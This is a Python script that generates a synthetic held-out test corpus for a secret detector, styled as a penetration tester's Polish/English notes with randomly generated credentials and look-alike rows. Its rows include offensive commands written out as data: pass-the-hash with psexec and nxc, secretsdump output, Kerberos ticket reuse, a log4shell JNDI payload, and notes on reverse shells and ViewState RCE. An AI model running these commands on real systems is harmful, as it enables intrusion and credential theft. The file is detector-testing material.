# ruff: noqa: E501
"""Writes heldout111_credentials.yaml and heldout111_lookalikes.yaml: held-out batch 111.

Persona: Kasia J., a penetration tester in Warsaw, keeps engagement notes in Polish and English
(often both in one line): domain admin passwords found on shares, NTLM hashes and Kerberos
tickets cracked to passwords, SSH keys and connection strings pulled from servers, API keys from
JavaScript bundles, the engagement VPN and the firm's password manager, the Burp Pro licence,
her own bank login and BLIK PIN, the lab Wi-Fi. Her look-alikes are malware hashes, IoCs,
fingerprints, SIDs and GUIDs, CVSS vectors, Nmap output, hashcat masks and password policies.

This batch was written blind: without reading the detector, its tests or the other corpora.
Every value is drawn at run time from the `secrets` module in the real format's shape; hosts
sit under `.example`, `.internal`, `.test` or `acme`. Nothing here is real.
"""

from __future__ import annotations

import secrets

from make_heldout import (
    ALNUM,
    BASE32,
    DIGITS,
    LOWER,
    UPPER,
    URLSAFE,
    Rows,
    age_public_key,
    age_secret_key,
    amex,
    anthropic_key,
    aws_account,
    aws_key_id,
    aws_secret,
    b64,
    b64u_bytes,
    basic,
    bitlocker_key,
    card_expiry,
    digits,
    groups,
    hexs,
    iban,
    jwt,
    luhn,
    mac,
    onepassword_secret_key,
    openai_project_key,
    openssh_private,
    pem,
    pem_body,
    phrase,
    pick,
    pw,
    recovery_codes,
    rnd,
    sendgrid_key,
    ssh_pub,
    uid,
    wg_key,
    write_corpora,
)

WORDS_PL = ["kot", "rower", "zupa", "okno", "las", "most", "wisla", "pierogi", "kawa", "deszcz",
            "tramwaj", "mleko", "zamek", "smok", "chmura", "jablko", "gwiazda", "rzeka", "papryka",
            "sowa", "wiatr", "ogien", "ksiazka", "bursztyn", "sernik", "latarnia", "kasztan"]
WORDS_EN = ["copper", "falcon", "window", "marble", "tundra", "violet", "anchor", "pepper",
            "glacier", "ribbon", "orbit", "canyon", "lemon", "thunder", "velvet", "harbor"]
SEASONS = ["Zima", "Lato", "Wiosna", "Jesien", "Styczen", "Luty", "Marzec", "Kwiecien", "Welcome",
           "Password", "Haslo", "Acme", "Summer", "Winter", "Spring", "Warszawa", "Polska", "Legia"]
SYMS = "!@#$%^&*_-+="


def cracked() -> str:
    """The kind of password a spray or a wordlist-plus-rules run recovers."""
    return f"{secrets.choice(SEASONS)}{pick('2023', '2024', '2025', digits(2), digits(3))}{pick('!', '@', '#', '$', '!!', '.', '*')}"


def strong() -> str:
    """An admin's or a generator's password."""
    return pick(
        pw(),
        rnd(ALNUM + SYMS, pick(14, 16, 18, 20)),
        f"{secrets.choice(WORDS_EN).capitalize()}{pick(*SYMS)}{secrets.choice(WORDS_EN)}{digits(3)}",
    )


def any_pw() -> str:
    return pick(cracked(), strong(), strong())


def pl_phrase(n: int) -> str:
    return phrase(WORDS_PL, n, pick("-", " ", ".", "_"))


def int_ip() -> str:
    return f"10.{secrets.randbelow(256)}.{secrets.randbelow(256)}.{secrets.randbelow(253) + 1}"


def doc_ip() -> str:
    """An address from the documentation ranges, for IoCs."""
    return f"{pick('192.0.2', '198.51.100', '203.0.113')}.{secrets.randbelow(253) + 1}"


def sid() -> str:
    return f"S-1-5-21-{digits(10, True)}-{digits(10, True)}-{digits(10, True)}"


def kirbi() -> str:
    """A base64 .kirbi as Rubeus prints it: an ASN.1 KRB-CRED, so it opens with doIF."""
    return b64(b"\x76\x82\x05" + bytes([0x80 + secrets.randbelow(64)]) + b"\x30\x82\x05" + secrets.token_bytes(291))


def lm_empty() -> str:
    return "aad3b435b51404eeaad3b435b51404ee"


def azure_secret() -> str:
    return f"{rnd(ALNUM, 3)}{digits(1)}Q~{rnd(ALNUM + '_.-~', 34)}"


def type7(password: str) -> str:
    return f"{secrets.randbelow(16):02d}{hexs(2 * len(password)).upper()}"


def jarm() -> str:
    return pick("2ad2ad0002ad2ad", "07d14d16d21d21d", "29d29d00029d29d", "3fd3fd0003fd3fd") + hexs(15) + hexs(32)


def nip() -> str:
    """A Polish NIP (tax id) with a valid check digit."""
    while True:
        body = digits(9, True)
        check = sum(int(c) * w for c, w in zip(body, [6, 5, 7, 2, 3, 4, 5, 6, 7], strict=True)) % 11
        if check != 10:
            return body + str(check)


def regon() -> str:
    body = digits(8, True)
    check = sum(int(c) * w for c, w in zip(body, [8, 9, 2, 3, 4, 5, 6, 7], strict=True)) % 11
    return body + str(check % 10)


def sha256_b64() -> str:
    return b64(secrets.token_bytes(32)).rstrip("=")


def credentials() -> Rows:
    r = Rows()
    bs = "\\"

    p1, p2, p3 = strong(), cracked(), strong()
    r.add("domain_admin_password",
          f"znalezione na {bs}{bs}fs01.corp.acme.internal{bs}IT${bs}skrypty{bs}deploy_agents.ps1:\n$pass = ConvertTo-SecureString '{p1}' -AsPlainText -Force\n$cred = New-Object System.Management.Automation.PSCredential('CORP{bs}adm_kowalski', $pass)\nkonto jest w Domain Admins!!! zweryfikowane nxc -> Pwn3d!",
          f"DA creds (acme-logistics, dzien 3): CORP{bs}da_backup / {p2} — z unattend.xml na udziale z obrazami, działa na DC02",
          f"remember: excel 'hasla_serwery_FINAL2.xlsx' on {bs}{bs}nas02{bs}Dzial_IT, row 14 -> administrator@corp.acme.internal   {p3}\nlogged into dc01 with it, screenshot taken")

    r.add("cracked_ntlm_password",
          f"hashcat -m 1000 done after 40 min on the rig:\n{hexs(32)}:{cracked()}\n(that's j.nowak, member of Helpdesk)",
          f"NTLM złamane: m.wisniewska -> {cracked()}   (rockyou + OneRuleToRuleThemAll)",
          f"Responder złapał NetNTLMv2 od CORP{bs}t.zielinski, -m 5600 → hasło: {cracked()} ; sprawdzic czy reuse na VPN",
          f"3 konta z tym samym hasłem {cracked()} (ksiegowosc1, ksiegowosc2, ksiegowosc3) - hash identyczny w secretsdump")

    nt1 = hexs(32)
    r.add("ntlm_hash_pass_the_hash",
          f"secretsdump DC01:\nAdministrator:500:{lm_empty()}:{hexs(32)}:::\nkrbtgt:502:{lm_empty()}:{hexs(32)}:::",
          f"PtH działa: impacket-psexec -hashes :{hexs(32)} administrator@{int_ip()}",
          f"local admin hash (same on all workstations, no LAPS): {nt1}\nnxc smb 10.20.0.0/24 -u Administrator -H {nt1} --local-auth")

    r.add("kerberoast_cracked_password",
          f"kerberoast: svc_sql (MSSQLSvc/sql01.corp.acme.internal:1433) cracked, -m 13100, pass = {cracked()}",
          f"GetUserSPNs -> svc_sharepoint, złamane w 6h:\n{strong()}\nkonto ma GenericAll na OU=Serwery, ścieżka do DA",
          f"AS-REP roast b.lewandowski (no preauth) -> hashcat 18200 -> {cracked()}")

    r.add("kerberos_ticket_kirbi",
          f"Rubeus dump TGT dla adm_kowalski (LUID 0x3e7):\n{kirbi()}\nużyć: Rubeus ptt /ticket:<powyżej>",
          f"base64 kirbi, TGT administratora, ważny do 18:40:\n{kirbi()}",
          f"golden ticket forged, .kirbi b64 for later -> {kirbi()}")

    r.add("krbtgt_aes_key",
          f"krbtgt:aes256-cts-hmac-sha1-96:{hexs(64)}\nkrbtgt:aes128-cts-hmac-sha1-96:{hexs(32)}\n(DCSync z 14.03, NIE wklejac do raportu w całości)",
          f"do golden ticketa: domain SID {sid()}, krbtgt aes256 {hexs(64)}")

    laps1, laps2 = rnd(ALNUM + "!#%+-.", 14), rnd(ALNUM, 20)
    r.add("laps_local_admin_password",
          f"Get-LAPSADPassword -Identity WS-FIN-042 -AsPlainText\n\nComputerName        : WS-FIN-042\nDistinguishedName   : CN=WS-FIN-042,OU=Finanse,DC=corp,DC=acme,DC=internal\nAccount             : Administrator\nPassword            : {laps1}\nPasswordUpdateTime  : 3/11/2025 8:14:02 AM",
          f"ms-Mcs-AdmPwd na SRV-APP03 czytelny dla Domain Users (!!) -> {laps2}")

    g1, g2 = strong(), cracked()
    r.add("gpp_cpassword",
          f"Groups.xml w SYSVOL:\n<Properties action=\"U\" newName=\"\" fullName=\"\" userName=\"LocalAdm\" cpassword=\"{sha256_b64()}\" changeLogon=\"0\" noChange=\"1\" />\ngpp-decrypt -> {g1}",
          f"GPP cpassword (Services.xml, svc_backup): {sha256_b64()}   // decrypted: {g2}")

    r.add("ssh_private_key",
          f"klucz z /home/deploy/.ssh/id_rsa na web02 (bez passphrase!):\n{openssh_private()}",
          f"root@backup01 id_ed25519, copied to loot/backup01_root\n{openssh_private()}",
          f"pem key lying in /var/www/html/.git (!), works for ubuntu@{int_ip()}:\n{pem('RSA PRIVATE KEY', 6)}")

    r.add("db_connection_string",
          f"appsettings.json z IIS:\n\"ConnectionStrings\": {{\n  \"Default\": \"Server=sql01.corp.acme.internal;Database=CRM;User Id=crm_app;Password={strong()};TrustServerCertificate=True\"\n}}",
          f"postgresql://billing:{strong()}@pg-prod.acme.internal:5432/billing  <- z .env w obrazie dockerowym",
          f"mongo w env kontenera: MONGO_URL=mongodb://admin:{rnd(ALNUM, 24)}@mongo01.acme.internal:27017/?authSource=admin",
          f"jdbc:mysql://db.acme.test:3306/hr?user=hr_rw&password={cracked()}&useSSL=false   (z WEB-INF/classes/db.properties)")

    r.add("mssql_sa_password",
          f"impacket-mssqlclient sa:'{strong()}'@{int_ip()}   # xp_cmdshell on, shell jako NT SERVICE{bs}MSSQLSERVER",
          f"sa na SQL02 = {cracked()} (znalezione w web.config starej aplikacji HR)",
          f"sqlcmd -S sql03.acme.internal -U sa -P \"{strong()}\" -Q \"SELECT @@version\"")

    r.add("js_bundle_aws_keys",
          f"main.8f3a1c.js on portal.acme.test has hardcoded:\naccessKeyId:\"{aws_key_id()}\",secretAccessKey:\"{aws_secret()}\",region:\"eu-central-1\"\n→ s3 ls works, bucket acme-invoices-prod",
          f"[acme-leak]\naws_access_key_id = {aws_key_id()}\naws_secret_access_key = {aws_secret()}\n# z chunk-vendors.js, klient Acme Retail",
          f"AWS keys w source mapie: {aws_key_id()} / {aws_secret()} (sts get-caller-identity -> arn:aws:iam::{aws_account()}:user/ci-deployer)")

    r.add("js_bundle_stripe_secret_key",
          f"checkout.js leaks Stripe SECRET key (not pk!): sk_live_51{rnd(ALNUM, 97)} — critical, zgłosić od razu do PM",
          f"const STRIPE_KEY=\"sk_live_51{rnd(ALNUM, 97)}\" w app.bundle.min.js, line 1 col 88412",
          f"restricted key w admin panelu JS: rk_live_51{rnd(ALNUM, 97)}\nma write na refunds, sprawdziłam GET /v1/balance")

    r.add("js_bundle_api_key",
          f"SendGrid w main.js: {sendgrid_key()} — może wysyłać maile z domeny klienta (SPF pass!)",
          f"twilio creds in bundle:\naccountSid: 'AC{hexs(32)}',\nauthToken: '{hexs(32)}'",
          f"mailgun: fetch('https://api.mailgun.net/v3/mg.acme.test/messages', {{headers: {{Authorization: 'Basic ' + btoa('api:key-{hexs(32)}')}}}})",
          f"Algolia ADMIN key (nie search-only!) w search.js: appId {rnd(UPPER + DIGITS, 10)}, apiKey {hexs(32)} — może kasować indeksy")

    r.add("github_token",
          f"ghp_{rnd(ALNUM, 36)} — PAT w .github/workflows/deploy.yml repo acme/internal-tools, scope repo + admin:org",
          f"git remote -v\norigin  https://x-access-token:ghp_{rnd(ALNUM, 36)}@github.com/acme-corp/payments.git (fetch)",
          f"fine-grained token z Jenkins credentials.xml: github_pat_{rnd(ALNUM, 22)}_{rnd(ALNUM, 59)}")

    r.add("gitlab_token",
          f"glpat-{rnd(URLSAFE, 20)} z ~/.python-gitlab.cfg na jump01",
          f"curl --header \"PRIVATE-TOKEN: glpat-{rnd(URLSAFE, 20)}\" https://gitlab.acme.internal/api/v4/projects  <- .bash_history usera devops",
          f"runner reg token w ansible roli: gitlab-runner register --url https://gitlab.acme.internal --registration-token GR1348941{rnd(URLSAFE, 20)}")

    r.add("slack_bot_token",
          f"xoxb-{digits(12, True)}-{digits(13, True)}-{rnd(ALNUM, 24)} w config.py bota #alerty-prod",
          f"SLACK_BOT_TOKEN=xoxb-{digits(11, True)}-{digits(13, True)}-{rnd(ALNUM, 24)}\nSLACK_CHANNEL=C0{rnd(UPPER + DIGITS, 9)}",
          f"user token from .bash_history: curl -H 'Authorization: Bearer xoxp-{digits(12, True)}-{digits(12, True)}-{digits(13, True)}-{hexs(32)}' https://slack.com/api/conversations.list")

    az = azure_secret()
    r.add("azure_client_secret",
          f"App registration 'acme-sync' client secret: {azure_secret()}\ntenant {uid()}\nclient {uid()}\n→ Graph: Directory.ReadWrite.All !!",
          f"az login --service-principal -u {uid()} -p '{az}' --tenant {uid()}",
          f"\"AzureAd\": {{ \"ClientId\": \"{uid()}\", \"ClientSecret\": \"{azure_secret()}\" }}  (appsettings.Production.json)")

    r.add("jwt_signing_secret",
          f"\"Jwt\": {{ \"Key\": \"{rnd(ALNUM, 48)}\", \"Issuer\": \"acme-api\" }}  -> podrobiłam token admina, /api/users działa",
          f"JWT HS256 secret cracked with hashcat -m 16500 in 3 min: {cracked()}",
          f"SECRET_KEY = 'django-insecure-{rnd(LOWER + DIGITS + '!@#$%^&*(-_=+)', 50)}'  # settings.py z repo, mozna podpisac sesje")

    k8s = jwt({"iss": "kubernetes/serviceaccount", "kubernetes.io/serviceaccount/namespace": "prod", "kubernetes.io/serviceaccount/service-account.name": "api-deployer", "sub": "system:serviceaccount:prod:api-deployer"}, alg="RS256", signature=rnd(URLSAFE, 342))
    k8s2 = jwt({"aud": ["https://kubernetes.default.svc"], "exp": 1799999999, "iss": "https://kubernetes.default.svc", "sub": "system:serviceaccount:ci:runner"}, alg="RS256", signature=rnd(URLSAFE, 342))
    r.add("k8s_service_account_token",
          f"token z /var/run/secrets/kubernetes.io/serviceaccount/token w podzie api-7d9f8c6b5-x2kqp:\n{k8s}\nkubectl auth can-i --list -> *.* (!!)",
          f"kubectl --server https://k8s.acme.internal:6443 --insecure-skip-tls-verify --token={k8s2} get secrets -A")

    key_escaped = pem_body(4).replace("\n", "\\n")
    r.add("gcp_service_account_key",
          f"sa-backup.json z bucketu gs://acme-tmp (public!):\n{{\n  \"type\": \"service_account\",\n  \"project_id\": \"acme-prod-31\",\n  \"private_key_id\": \"{hexs(40)}\",\n  \"private_key\": \"-----BEGIN PRIVATE KEY-----\\n{key_escaped}\\n-----END PRIVATE KEY-----\\n\",\n  \"client_email\": \"backup@acme-prod-31.iam.gserviceaccount.com\"\n}}",
          f"GCP key (private_key_id {hexs(40)}) — private key:\n{pem('PRIVATE KEY', 5)}")

    r.add("stolen_session_cookie",
          f"XSS w komentarzach → cookie admina:\n.AspNetCore.Cookies=CfDJ8{rnd(URLSAFE, 180)}",
          f"session hijack PoC: PHPSESSID={rnd('0123456789abcdefghijklmnopqrstuv', 26)}; role=admin — ważne do wylogowania",
          f"Cookie: JSESSIONID={hexs(32).upper()}; auth_token={b64u_bytes(32)}")

    r.add("engagement_vpn_password",
          f"VPN do klienta (OpenVPN), plik acme_pentest.ovpn, auth.txt:\npentest_ext02\n{strong()}",
          f"FortiClient → vpn.acme.test:10443 user: ext_pentest_kj pass: {strong()}  (ważne do końca testów 30.06)",
          f"hasło do klucza w .ovpn (askpass) - {pl_phrase(4)}")

    r.add("company_password_manager_master",
          f"Bitwarden firmowy — master password:\n{pl_phrase(5)}\n(nie zapisywać nigdzie indziej!! ...no, poza tutaj)",
          f"1Password (firma)\nemail: kasia@redteam.example\nSecret Key: {onepassword_secret_key()}\nMaster: {strong()}",
          f"KeePassXC team db redteam.kdbx hasło główne → {strong()}")

    r.add("burp_pro_licence_key",
          f"Burp Suite Pro licencja (firmowa, 2025):\n{b64(secrets.token_bytes(402))}",
          f"licence key burp - do aktywacji na nowym laptopie\n{b64(secrets.token_bytes(390))}")

    r.add("bank_login_password",
          f"mBank: identyfikator {digits(8, True)}, hasło {strong()}",
          f"PKO iPKO login {digits(8, True)} / {cracked()}  — zmienić po powrocie z delegacji!",
          f"bank (Pekao24)\nlogin: kasiaj{digits(3)}\nhaslo: {strong()}")

    r.add("bank_app_pin_blik",
          f"PIN do IKO (BLIK) = {digits(5)}",
          f"mój PIN do aplikacji mBank, tego od BLIKa: {digits(4)}. limit BLIK 2000 zł/dzień",
          f"note to self: BLIK in the app needs PIN {digits(6)}, NOT the card PIN. card PIN is {digits(4)}")

    r.add("lab_wifi_password",
          f"Wi-Fi w labie: SSID RedLab-5G, WPA2: {strong()}",
          f"nmcli dev wifi connect 'PENTEST-LAB' password '{pl_phrase(3)}{digits(2)}'",
          f"wpa_supplicant.conf na raspberry w labie:\nnetwork={{\n    ssid=\"lab-hw\"\n    psk=\"{rnd(ALNUM, 16)}\"\n}}")

    r.add("ldap_bind_password",
          f"ldapsearch -x -H ldap://dc01.corp.acme.internal -D 'CN=svc_ldap,OU=Service,DC=corp,DC=acme,DC=internal' -w '{strong()}' -b 'DC=corp,DC=acme,DC=internal' '(adminCount=1)'",
          f"bind creds z konfiguracji drukarki (LDAP ksiazka adresowa): svc_scan / {cracked()}",
          f"pass-back attack on the Ricoh worked, got the LDAP bind pw in cleartext on my nc listener: {strong()}")

    comm = rnd(ALNUM, 12)
    r.add("snmp_community_string",
          f"snmpwalk -v2c -c {comm} {int_ip()} 1.3.6.1.2.1.1 — community RW (nie 'public'), mogę zmieniać config switcha",
          f"SNMP RW community na core switchu: {rnd(ALNUM, 14)}",
          f"snmp-server community {rnd(ALNUM, 10)} RW 99   <- z backupu konfiguracji routera brzegowego")

    r.add("idrac_ipmi_password",
          f"iDRAC srv-esx01-idrac.acme.internal  root / {strong()}",
          f"IPMI 2.0 RAKP hash dump -> hashcat 7300 -> ADMIN:{cracked()} na bmc03",
          f"ipmitool -I lanplus -H bmc05.acme.internal -U ADMIN -P '{strong()}' chassis status  ✓")

    r.add("vcenter_admin_password",
          f"vCenter https://vcsa.acme.internal/ui\nadministrator@vsphere.local : {strong()}",
          f"vsphere SSO admin - {strong()} (z notatki admina na pulpicie C:{bs}Users{bs}admin.jw{bs}Desktop{bs}vc.txt)",
          f"esxi01 root pw (ten sam co vCenter? nie, inny): {strong()}")

    r.add("keepass_master_password_cracked",
          f"keepass2john Hasla_IT.kdbx > kp.hash; hashcat -m 13400 → master: {cracked()}\nw środku 312 wpisów m.in. firewall i VPN",
          f"kdbx z NAS-a otwarty, haslo glowne: {cracked()}",
          f"keepas IT dzialu -> {cracked()}  (hashcat 13400, 2h, maska ?u?l?l?l?l?d?d?d?d?s)")

    tp = strong()
    r.add("tomcat_manager_basic_auth",
          f"tomcat-users.xml:\n<user username=\"manager\" password=\"{strong()}\" roles=\"manager-gui,manager-script\"/>",
          f"Authorization: Basic {basic('tomcat', tp)}   (manager/html na :8080, deploy war → shell)",
          f"curl -u admin:'{cracked()}' http://app03.acme.internal:8080/manager/text/list")

    r.add("redis_requirepass",
          f"redis.conf na cache01: requirepass {rnd(ALNUM, 32)}",
          f"redis-cli -h {int_ip()} -a '{strong()}' CONFIG GET dir   → potem zapis authorized_keys",
          f"REDIS_URL=redis://:{rnd(ALNUM, 28)}@cache02.acme.internal:6379/0")

    c1, c2 = cracked(), strong()
    r.add("cisco_type7_password",
          f"running-config z TFTP:\nusername netadmin privilege 15 password 7 {type7(c1)}\n→ type 7 zdekodowane = {c1}",
          f"enable password 7 {type7(c2)}   (decoded: {c2})")

    r.add("aspnet_machine_key",
          f"<machineKey validationKey=\"{hexs(128).upper()}\" decryptionKey=\"{hexs(64).upper()}\" validation=\"SHA1\" decryption=\"AES\" />\nz web.config, ysoserial ViewState → RCE",
          f"machineKey from web.config.bak: validation {hexs(128).upper()} decryption {hexs(48).upper()}")

    r.add("jenkins_api_token",
          f"jenkins user 'deploy' API token: 11{hexs(32)}  → /script console działa",
          f"curl -X POST -u deploy:11{hexs(32)} https://jenkins.acme.internal/job/prod-release/build",
          f"jenkins admin (konto lokalne, nie AD): admin / {cracked()} — script console → groovy reverse shell")

    r.add("totp_seed",
          f"TOTP seed do portalu klienta (upload raportów): {rnd(BASE32, 32)} — dodane też do telefonu",
          f"otpauth://totp/AcmeSecurePortal:kj.pentest?secret={rnd(BASE32, 32)}&issuer=AcmeSecurePortal",
          f"2FA secret for my HackerOne acc (backup): {groups(rnd(BASE32, 32).lower(), 4)}")

    r.add("account_recovery_codes",
          f"GitHub recovery codes (moje konto):\n{recovery_codes(8, 'github')}",
          f"Microsoft konto firmowe - kod odzyskiwania: {groups(rnd(UPPER + DIGITS, 25), 5, '-')}",
          f"backup codes Google (prywatne)\n{recovery_codes(5, 'digits')}")

    r.add("pgp_key_passphrase",
          f"passphrase do mojego klucza GPG (tym szyfruję raporty): {phrase(WORDS_EN, 6, ' ')}",
          f"gpg --batch --pinentry-mode loopback --passphrase '{strong()}' -d raport_final_acme.pdf.gpg > raport.pdf")

    r.add("cracking_rig_password",
          f"rig (4x 4090): ssh hashcat@crack01.redteam.internal, hasło {strong()}",
          f"cracking box\nroot / {strong()}\nhashtopolis web UI admin / {strong()}")

    r.add("c2_teamserver_password",
          f"sudo ./teamserver {int_ip()} '{strong()}' profiles/acme_jquery.profile",
          f"CS teamserver pass: {strong()} (port 50050, tylko przez ssh tunel!)",
          f"mythic admin pw po instalacji (z .env MYTHIC_ADMIN_PASSWORD): {rnd(ALNUM, 30)}")

    r.add("veracrypt_evidence_password",
          f"kontener VeraCrypt z lootem (E:{bs}acme_2025.hc) — hasło: {pl_phrase(6)}",
          f"evidence volume pw: {strong()}, PIM 485")

    r.add("wireguard_private_key",
          f"[Interface]\nPrivateKey = {wg_key()}\nAddress = 10.66.0.7/32\n\n[Peer]\nPublicKey = {wg_key()}\nEndpoint = lab.redteam.example:51820\nAllowedIPs = 10.66.0.0/24",
          f"wg priv key dla dropboxa (raspberry u klienta w serwerowni): {wg_key()}",
          f"wg set wg0 private-key <(echo {wg_key()}) peer {wg_key()} endpoint lab.redteam.example:51820")

    r.add("office_door_code",
          f"kod do drzwi biura (Prosta, 4 piętro): {digits(4)}#",
          f"door code to client HQ server room (given by facility mgr for the physical test): *{digits(6)}")

    r.add("alarm_system_code",
          f"alarm w biurze - rozbrajanie {digits(4)}, jak dzwoni ochrona to hasło: {secrets.choice(WORDS_PL)}{digits(2)}",
          f"Satel keypad code (mieszkanie): {digits(4)}")

    r.add("company_card_with_cvv",
          f"karta firmowa VISA do AWS/DigitalOcean: {groups(luhn('4'), 4)} exp {card_expiry()} CVV {digits(3)}",
          f"Mastercard for conference tickets {luhn('5' + pick('1', '2', '3', '4', '5'))} {card_expiry()} cvc {digits(3)}",
          f"amex (szef dał na x33fcon): {amex()}, ważna {card_expiry()}, CID {digits(4)}")

    r.add("sim_puk_code",
          f"SIM telefonu testowego (do vishingu): PIN {digits(4)} PUK {digits(8)}",
          f"PUK do karty Orange (prywatna): {digits(8)}",
          f"phone SIM (Play) pin {digits(4)}, puk {digits(8)} - karta w szufladzie")

    r.add("net_use_script_password",
          f"logon.bat na NETLOGON:\nnet use S: {bs}{bs}fs01{bs}wspolne /user:CORP{bs}svc_map {strong()} /persistent:no",
          f"zadanie w harmonogramie: schtasks /create /tn Backup /tr C:{bs}bk.cmd /sc daily /ru CORP{bs}svc_backup /rp {cracked()}")

    r.add("ai_api_key",
          f"mój klucz OpenAI do szkiców raportów: {openai_project_key()}",
          f"ANTHROPIC_API_KEY={anthropic_key()} (prywatne konto, limit 50$)")

    r.add("age_evidence_key",
          f"age key do szyfrowania lootu:\n# created: 2025-03-02T09:14:11+01:00\n# public key: {age_public_key()}\n{age_secret_key()}",
          f"engagement ACME-2025-07 identity file: {age_secret_key()}")

    r.add("bitlocker_recovery_key",
          f"BitLocker laptop testowy (ThinkPad), recovery key: {bitlocker_key()}",
          f"klucz odzyskiwania BitLocker do dysku C: służbowego\n{bitlocker_key()}")

    r.add("wordpress_admin_password",
          f"wp-login.php admin:{cracked()} (wpscan --passwords, 1200 prób, brak rate limitu)",
          f"wp-config.php:\ndefine( 'DB_USER', 'wp_acme' );\ndefine( 'DB_PASSWORD', '{strong()}' );\ndefine( 'DB_HOST', 'db01.acme.internal' );")

    r.add("ansible_vault_password",
          f".vault_pass w repo infra (commit z 2023, potem usunięty): {pl_phrase(4)}",
          f"ansible-playbook site.yml --vault-password-file <(echo '{strong()}')  # z historii jump01")

    r.add("docker_registry_token",
          f"docker login registry.acme.internal -u ci-bot -p {rnd(ALNUM, 32)}",
          f"~/.docker/config.json na buildzie:\n{{\"auths\": {{\"registry.acme.internal\": {{\"auth\": \"{basic('ci-bot', strong())}\"}}}}}}")
    return r


def lookalikes() -> Rows:
    r = Rows()
    bs = "\\"

    r.add("malware_sample_sha256",
          f"próbka z załącznika phishingowego (faktura_0423.xlsm) sha256: {hexs(64)} — VT 41/70, Emotet",
          f"loader.dll SHA256 {hexs(64)}\ndropper  SHA256 {hexs(64)}\noba podpisane odwołanym certem",
          f"IoC do raportu: sha256={hexs(64)} (beacon.exe, znaleziony na WS-HR-011)")

    r.add("malware_sample_md5",
          f"md5 {hexs(32)}  invoice.lnk",
          f"hashe md5 z sandboxa:\n{hexs(32)}  stage1.ps1\n{hexs(32)}  stage2.bin\n{hexs(32)}  cfg.dat",
          f"MD5 (klient prosił o md5 a nie sha): {hexs(32)}")

    r.add("cve_reference",
          f"Exchange na mail.acme.test build 15.1.2507.{digits(2)} — podatny na CVE-2024-{digits(5, True)}? sprawdzić",
          f"do sprawdzenia: CVE-2024-{digits(5, True)}, CVE-2023-{digits(5, True)} (Fortinet), CVE-2022-{digits(5, True)}",
          f"nuclei hit: [CVE-2023-{digits(5, True)}] [http] [critical] https://portal.acme.test/api/v1/status")

    r.add("yara_rule_name",
          f"rule MAL_Win_Loader_{rnd(UPPER, 3)}_{digits(4)} matched on 3 hosts",
          f"YARA: trafienia 'APT_PL_Phish_Macro_Jun25' i 'SUSP_Obfuscated_PS_b64' w C:{bs}ProgramData{bs}upd{bs}",
          f"nowa reguła do repo: HKTL_Mimikatz_Renamed_{hexs(6)} (meta: author = \"kj\", date = \"2025-03-14\")")

    r.add("ioc_ip_address",
          f"C2 IPs z pcapa:\n{doc_ip()}:443\n{doc_ip()}:8443\n{doc_ip()}:80",
          f"IoC: beacon callbacks to {doc_ip()} every 60s, jitter 20%",
          f"zablokować na FW: {doc_ip()}, {doc_ip()}, {doc_ip()}/29")

    r.add("ioc_domain",
          f"C2 domain: cdn-{rnd(LOWER + DIGITS, 8)}.update-check.example (registered 3 days before the campaign)",
          f"defanged: hxxps://login-acme-{rnd(LOWER, 6)}[.]example/owa/ — strona phishingowa",
          f"DGA-like domains in DNS logs: {rnd(LOWER, 12)}.test, {rnd(LOWER, 14)}.test, {rnd(LOWER, 11)}.test")

    r.add("ja3_fingerprint",
          f"JA3 {hexs(32)} — pasuje do domyślnego profilu Cobalt Strike",
          f"ja3={hexs(32)} ja3s={hexs(32)} for the odd TLS session at 03:12",
          f"JA3 string 771,4865-4866-4867-49195-49199,0-23-65281-10-11-35-16-5-13,29-23-24,0 → md5 {hexs(32)}")

    r.add("jarm_fingerprint",
          f"JARM for the c2 server: {jarm()}",
          f"jarm scan:\n{doc_ip()}  {jarm()}\n{doc_ip()}  {jarm()}",
          f"JARM (domyślny Sliver?) {jarm()} — porównać z listą znanych C2")

    r.add("certificate_thumbprint",
          f"cert na ADFS: Thumbprint {hexs(40).upper()}, wygasa 2026-01-12",
          f"SHA1 Fingerprint={groups(hexs(40).upper(), 2, ':')}",
          f"Get-ChildItem Cert:{bs}LocalMachine{bs}My\n\nThumbprint                                Subject\n----------                                -------\n{hexs(40).upper()}  CN=adcs01.corp.acme.internal")

    r.add("burp_collaborator_url",
          f"SSRF confirmed, DNS + HTTP hit on {rnd(LOWER + DIGITS, 30)}.collab.redteam.example",
          f"payload url=http://{rnd(LOWER + DIGITS, 30)}.collab.redteam.example/x → pingback po 4s z 10.20.3.15",
          f"Collaborator interaction id {rnd(LOWER + DIGITS, 30)} (blind XXE, /api/import)")

    r.add("interactsh_url",
          f"interactsh-client -server oast.redteam.internal → {rnd(LOWER + DIGITS, 20)}.oast.redteam.internal",
          f"log4shell test payload ${{jndi:ldap://{rnd(LOWER + DIGITS, 33)}.oast.acme.test/a}} — brak callbacku",
          f"interactsh correlation id {rnd(LOWER + DIGITS, 20)}, 2 DNS hits from {int_ip()}")

    ip1 = int_ip()
    r.add("nmap_service_scan",
          f"PORT     STATE SERVICE       VERSION\n22/tcp   open  ssh           OpenSSH 8.2p1 Ubuntu 4ubuntu0.{secrets.randbelow(12)} (Ubuntu Linux; protocol 2.0)\n80/tcp   open  http          nginx 1.18.0\n445/tcp  open  microsoft-ds?\n3389/tcp open  ms-wbt-server Microsoft Terminal Services\nService Info: OS: Linux; CPE: cpe:/o:linux:linux_kernel",
          f"Nmap scan report for dc01.corp.acme.internal ({ip1})\n88/tcp  open  kerberos-sec  Microsoft Windows Kerberos (server time: 2025-03-14 09:12:44Z)\n389/tcp open  ldap          Microsoft Windows Active Directory LDAP (Domain: corp.acme.internal)\n| ssl-cert: Subject: commonName=dc01.corp.acme.internal\n| SHA-1: {groups(hexs(40), 4)}",
          f"nmap -sV -sC -p- --min-rate 2000 -oA scans/full_{ip1} {ip1}")

    r.add("cvss_vector",
          "finding KJ-07: CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H = 9.8",
          "CVSS:4.0/AV:N/AC:L/AT:N/PR:L/UI:N/VC:H/VI:H/VA:N/SC:N/SI:N/SA:N dla IDOR w /api/invoices",
          "wektor AV:A/AC:H/PR:N/UI:R/S:C/C:L/I:L/A:N (5.x?) — przeliczyć jeszcze raz")

    r.add("ticket_id",
          f"PENTEST-{digits(4, True)} — retest XSS po poprawce",
          f"ticket u klienta: SEC-{digits(5, True)}, ServiceNow INC{digits(7)}",
          f"remember to close RT-{digits(4, True)} and link it to the report")

    r.add("report_reference",
          f"raport nr RT/2025/{digits(3)}/ACME, wersja 1.2, wysłany 12.05",
          f"report id {rnd(UPPER + DIGITS, 8)}-{digits(4)} (portal klienta)",
          f"engagement code ACME-PT-2025-{digits(3)}, SOW ref {hexs(8).upper()}")

